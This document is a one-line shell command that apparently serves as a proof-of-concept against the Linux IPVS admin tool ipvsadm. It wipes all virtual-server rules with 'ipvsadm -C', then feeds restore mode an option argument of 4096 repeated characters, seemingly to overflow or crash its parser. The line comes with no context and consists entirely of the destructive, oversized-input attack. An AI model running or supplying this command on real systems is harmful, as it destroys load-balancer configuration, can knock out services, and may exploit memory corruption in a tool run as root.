ipvsadm -C; printf -- '-C \n-L %s-n\n' "$(printf 'x%.0s' {1..4096})" | ipvsadm -R
